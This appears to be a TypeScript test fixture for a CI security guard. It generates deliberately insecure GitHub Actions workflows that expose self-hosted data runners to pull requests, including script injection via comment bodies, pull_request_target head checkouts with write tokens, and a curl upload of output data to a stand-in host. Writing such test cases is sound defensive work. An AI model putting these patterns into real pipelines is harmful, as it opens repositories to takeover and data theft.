/** Workflows and composite actions that open a path from a pull request to the runners holding the data. */
import type { Attempt } from '../attempt.js';

const C = 'workflow';
const SCHEDULED_IF =
  "github.event_name == 'schedule' || github.ref == format('refs/heads/{0}', github.event.repository.default_branch)";
const SCHEDULED_ON = "on:\n  schedule:\n    - cron: '0 3 * * 1'\n  workflow_dispatch:\n";
const PR_CHECKOUT_HEAD =
  '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n';

/**
 * Each attempt breaks one rule only: the rest follows the policy (top-level read-only token, one
 * concurrency group, check-outs without persisted credentials), so a finding is about the attack.
 */
function harden(text: string): string {
  if (!/^(on|'on'|"on"):/m.test(text) && !/^runs:/m.test(text)) return text;
  let out = text.replace(
    / {6}- uses: actions\/checkout@v4\n(?! {8}with:)/g,
    '      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n',
  );
  if (!/^runs:/m.test(out)) {
    if (!/^permissions:/m.test(out)) out = out.replace(/^jobs:/m, 'permissions:\n  contents: read\njobs:');
    if (!/^concurrency:/m.test(out))
      out = out.replace(
        /^jobs:/m,
        'concurrency:\n  group: ${{ github.workflow }}\n  cancel-in-progress: false\njobs:',
      );
  }
  return out;
}

/** One workflow file (plus any composite actions or called workflows), committed together. */
function wf(variant: string, files: Record<string, string>, proof?: string): Attempt {
  const names = Object.keys(files);
  const main = names[0] ?? '';
  return {
    id: `${C}/${variant}`,
    cls: C,
    files: names,
    async build(r) {
      for (const [f, text] of Object.entries(files)) await r.write(f, harden(text));
      await r.commit(`ci: ${variant}`);
    },
    proof: proof ?? `w = wf(${JSON.stringify(main)}); assert w.get("jobs") or w.get("runs")`,
  };
}

const W = (name: string) => `.github/workflows/${name}.yml`;
const selfHostedDataJob = (steps: string) =>
  `name: nightly\n${SCHEDULED_ON}permissions:\n  contents: read\njobs:\n  export:\n    if: ${SCHEDULED_IF}\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n${steps}`;

export function workflowAttempts(): Attempt[] {
  return [
    wf(
      'anchor-runs-on-alias',
      {
        [W('ci')]:
          'name: ci\non: pull_request\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    env:\n      RUNNER: &runner [self-hosted, linux, x64]\n    steps:\n      - run: echo lint\n  test:\n    runs-on: *runner\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n',
      },
      `assert "self-hosted" in wf(${JSON.stringify(W('ci'))})["jobs"]["test"]["runs-on"]`,
    ),
    wf(
      'anchor-in-matrix',
      {
        [W('matrix')]:
          'name: matrix\non: [pull_request]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        label: [&gpu self-hosted]\n    steps:\n      - run: echo ${{ matrix.label }}\n  b:\n    runs-on: *gpu\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n',
      },
      `assert wf(${JSON.stringify(W('matrix'))})["jobs"]["b"]["runs-on"] == "self-hosted"`,
    ),
    wf(
      'anchor-whole-job',
      {
        [W('jobs')]:
          'name: jobs\non: pull_request\njobs:\n  pr:\n    runs-on: *gpu\n    steps:\n      - uses: actions/checkout@v4\n      - run: python train.py\n',
      },
      // An alias of an anchor that does not exist: GitHub refuses it; the guard must not read it as safe.
      `try:\n    wf(${JSON.stringify(W('jobs'))})\n    raise AssertionError("resolved")\nexcept Exception as e:\n    assert "gpu" in str(e) or "alias" in str(e).lower()`,
    ),
    // A block scalar around ${{ }} keeps its newline: GitHub reads text outside the braces, so the
    // condition is a non-empty string, always true. (Without ${{ }} the block is a bare expression,
    // which GitHub's parser evaluates as written: false on pull_request, so no attack.)
    wf('if-literal-block', {
      [W('block-if')]:
        `name: block\non: pull_request\njobs:\n  gpu:\n    if: |\n      \${{ github.event_name == 'schedule' }}\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('if-folded-block', {
      [W('folded-if')]:
        `name: folded\non: pull_request\njobs:\n  gpu:\n    if: >\n      \${{ github.ref == 'refs/heads/main' }}\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('if-string-with-embedded-expression', {
      [W('embedded-if')]:
        `name: embedded\non: pull_request\njobs:\n  gpu:\n    if: "\${{ github.event_name }} == 'schedule'"\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('if-case-insensitive-compare', {
      [W('case-if')]:
        `name: case\non: [pull_request, schedule]\njobs:\n  gpu:\n    if: github.event_name == 'PULL_REQUEST' || github.event_name == 'schedule'\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('event-name-mixed-case', {
      [W('mixed')]:
        `name: mixed\non: 'Pull_Request'\njobs:\n  gpu:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('pull-request-target-upper-case', {
      [W('target')]:
        `name: target\non: [PULL_REQUEST_TARGET]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${PR_CHECKOUT_HEAD}      - run: npm install && npm test\n`,
    }),
    wf('reusable-two-levels-deep', {
      [W('pr')]: 'name: pr\non: pull_request\njobs:\n  call:\n    uses: ./.github/workflows/level1.yml\n',
      [W('level1')]:
        'name: level1\non: workflow_call\njobs:\n  call:\n    uses: ./.github/workflows/level2.yml\n',
      [W('level2')]:
        'name: level2\non: workflow_call\njobs:\n  gpu:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n',
    }),
    wf('reusable-dotdot-path', {
      [W('dotdot')]:
        'name: dotdot\non: pull_request\njobs:\n  call:\n    uses: ./.github/workflows/../workflows/inner.yaml\n',
      '.github/workflows/inner.yaml':
        'name: inner\non: workflow_call\njobs:\n  gpu:\n    runs-on: self-hosted\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n',
    }),
    wf('reusable-remote-at-tag', {
      [W('remote')]:
        'name: remote\non: pull_request\njobs:\n  call:\n    uses: acme/ci-templates/.github/workflows/gpu.yml@v2\n    secrets: inherit\n',
    }),
    wf('runs-on-expression-prefix', {
      [W('matrix-os')]:
        `name: matrix-os\non: pull_request\njobs:\n  t:\n    strategy:\n      matrix:\n        os: [a100, h100]\n    runs-on: gpu-\${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('runs-on-fromjson', {
      [W('fromjson')]:
        `name: fromjson\non: pull_request\njobs:\n  t:\n    runs-on: \${{ fromJSON('["self-hosted", "linux"]') }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('runs-on-group', {
      [W('group')]:
        'name: group\non: pull_request\njobs:\n  t:\n    runs-on:\n      group: clinical-runners\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n',
    }),
    wf('runs-on-fork-conditional', {
      [W('forkcond')]:
        `name: forkcond\non: pull_request\njobs:\n  t:\n    runs-on: \${{ github.event.pull_request.head.repo.fork && 'ubuntu-latest' || 'self-hosted' }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n`,
    }),
    wf('self-hosted-on-pull-request', {
      [W('plain')]:
        'name: plain\non: pull_request\njobs:\n  t:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./run.sh\n',
    }),
    wf('composite-action-pr-title-input', {
      'actions/notify/action.yml':
        'name: notify\ninputs:\n  title:\n    required: true\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo "Reviewing ${{ inputs.title }}"\n',
      [W('notify')]:
        'name: notify\non: issue_comment\njobs:\n  n:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: write\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./actions/notify\n        with:\n          title: ${{ github.event.issue.title }}\n',
    }),
    wf('composite-action-uploads-outputs', {
      'actions/publish/action.yml':
        'name: publish\nruns:\n  using: composite\n  steps:\n    - uses: actions/upload-artifact@v4\n      with:\n        name: images\n        path: outputs\n',
      [W('publish')]: selfHostedDataJob('      - uses: ./actions/publish\n'),
    }),
    wf('composite-action-recheckout-with-credentials', {
      'actions/prepare/action.yml':
        'name: prepare\nruns:\n  using: composite\n  steps:\n    - uses: actions/checkout@v4\n      with:\n        ref: refs/pull/${{ github.event.issue.number }}/head\n    - shell: bash\n      run: npm ci && npm run build\n',
      [W('prepare')]:
        'name: prepare\non: issue_comment\njobs:\n  p:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./actions/prepare\n',
    }),
    wf('untrusted-through-env', {
      [W('env')]:
        'name: env\non: issue_comment\njobs:\n  e:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: write\n    env:\n      TITLE: ${{ github.event.issue.title }}\n    steps:\n      - run: echo "${{ env.TITLE }}"\n',
    }),
    wf('untrusted-bracket-notation', {
      [W('bracket')]:
        "name: bracket\non: issue_comment\njobs:\n  e:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: write\n    steps:\n      - run: echo \"${{ github.event['comment']['body'] }}\"\n",
    }),
    wf('untrusted-through-step-output', {
      [W('outputs')]:
        'name: outputs\non: issue_comment\njobs:\n  e:\n    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: write\n    steps:\n      - id: meta\n        env:\n          REF: ${{ github.event.comment.body }}\n        run: echo "ref=$REF" >> "$GITHUB_OUTPUT"\n      - run: git log "${{ steps.meta.outputs.ref }}"\n',
    }),
    wf('untrusted-issue-comment-body', {
      [W('comment')]:
        'name: comment\non: issue_comment\njobs:\n  e:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: echo "${{ github.event.comment.body }}"\n',
    }),
    wf('gh-release-upload-in-run', {
      [W('release')]: selfHostedDataJob(
        '      - run: gh release upload nightly outputs/mura/*.png --clobber\n        env:\n          GH_TOKEN: ${{ github.token }}\n',
      ),
    }),
    wf('release-action-with-outputs', {
      [W('gh-release')]: selfHostedDataJob(
        '      - uses: softprops/action-gh-release@c062e08bd532815e2082a85e87e3ef29c3e6d191\n        with:\n          files: outputs/**\n',
      ),
    }),
    wf('upload-artifact-of-outputs', {
      [W('artifact')]: selfHostedDataJob(
        '      - uses: actions/upload-artifact@v4\n        with:\n          name: processed\n          path: outputs/\n',
      ),
    }),
    wf('curl-upload-in-run', {
      [W('curl')]: selfHostedDataJob(
        '      - run: curl -sf -T outputs/mura/scenario_001.png https://example.org/upload/\n',
      ),
    }),
    wf('third-party-action-at-tag-self-hosted', {
      [W('thirdparty')]: selfHostedDataJob(
        '      - uses: someone/setup-imaging@v1\n      - run: ./process.sh\n',
      ),
    }),
    wf('workflow-run-write-token-checks-out-pr', {
      [W('after-ci')]:
        'name: after-ci\non:\n  workflow_run:\n    workflows: [validate]\n    types: [completed]\npermissions:\n  contents: read\njobs:\n  w:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - run: npm ci && npm run build\n',
    }),
    wf('issue-comment-write-token-checks-out-pr', {
      [W('slash')]:
        "name: slash\non: issue_comment\npermissions:\n  contents: read\njobs:\n  s:\n    permissions:\n      contents: write\n      pull-requests: write\n    if: startsWith(github.event.comment.body, '/regenerate')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.issue.number }}/head\n      - run: npm ci && npm test\n",
    }),
    wf('pull-request-review-write-token-checks-out-pr', {
      [W('review')]:
        `name: review\non: pull_request_review\npermissions:\n  contents: read\njobs:\n  r:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n${PR_CHECKOUT_HEAD}      - run: npm ci && npm test\n`,
    }),
    wf('pull-request-target-checkout-head', {
      [W('pr-target')]:
        `name: pr-target\non: pull_request_target\npermissions: write-all\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n${PR_CHECKOUT_HEAD}      - run: npm install\n`,
    }),
  ];
}
